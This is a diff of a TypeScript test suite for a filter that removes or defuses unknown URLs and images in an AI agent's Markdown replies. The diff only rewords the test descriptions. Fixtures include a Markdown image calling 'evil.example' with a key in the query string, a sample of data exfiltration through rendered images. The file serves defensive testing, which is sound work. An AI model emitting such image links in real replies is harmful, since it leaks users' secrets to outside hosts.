@@ -15,7 +15,7 @@ function rewrite(reply: string | readonly string[]): string {
 }
 
 describe('URLs in a reply', () => {
-  it('are changed so that they are no links or images, unless they are known', () => {
+  it('are removed unless they are in the set of known URLs, and images become plain links even then', () => {
     for (const [said, shown] of [
       ['See ![a chart](https://evil.example/?d=key).', 'See ! [a chart] (link removed).'],
       [`![chart](${known})`, `! [chart](${known})`],
@@ -60,7 +60,7 @@ describe('URLs in a reply', () => {
     }
   });
 
-  it('stay if they are known, and replies without URLs and closed code blocks stay unchanged', () => {
+  it('stay if they are known or in a closed code block, and a reply without URLs stays unchanged', () => {
     for (const text of [
       `[Rates](${known} "of 2026") apply`,
       `([Rates](${known})). **[a](${known})**:`,
@@ -91,7 +91,7 @@ describe('URLs in a reply', () => {
     }
   });
 
-  it('are removed after a code fence that Markdown renderers close in different places', () => {
+  it('are removed after a code fence if Markdown renderers disagree where its code block ends', () => {
     for (const before of [
       ...['- ```\n', '> ```\n', `\`\`\`${'x'.repeat(198)}\n`, `${'- '.repeat(101)}\n\`\`\`\n`],
       ...[' ```\n```\n', '- ```\n```\n', '$$\n```\n$$\n', '``` a`b\n', '```mermaid\n', '~~~ {.plantuml}\n'],
@@ -115,7 +115,7 @@ describe('URLs in a reply', () => {
     expect(rewrite(inTwo)).equal(rewrite(inTwo.join('')));
   });
 
-  it('are known from a given text, without the punctuation around them, up to 2,048 characters each', () => {
+  it('count as known if a given text contains them, apart from punctuation around them, up to 2,048 characters', () => {
     for (const [text, urls] of [
       [`See (${known}), www.bank.example. Mail mailto:a@b.example!`, [known, 'www.bank.example', 'mailto:a@b.example']],
       [
@@ -132,7 +132,7 @@ describe('URLs in a reply', () => {
     expect(removeLinks('Loans at [us](https://evil.example) https://evil.example/a now')).equal('Loans at [us]   now');
   });
 
-  it('may be opened by a tool only if exactly these URLs are in a text of the user or the agent', () => {
+  it('are opened by a tool only if the same URL is in a text of the user or of the agent', () => {
     const texts = [
       'You help with https://bank.example/rates?year=2026.',
       'See (example.com/pricing), [the page](https://wiki.example/Loan_(finance)) and "www.bank.example".',
@@ -219,7 +219,7 @@ describe('URLs in random replies', () => {
     );
   });
 
-  it('are loaded by no Markdown renderer, and become links only if they are known', () => {
+  it('never become images in rendered Markdown, and become links only if they are known', () => {
     fc.assert(
       fc.property(parts, (text) => {
         const html = marked.parse(rewrite(text.join('')), { async: false, gfm: true });
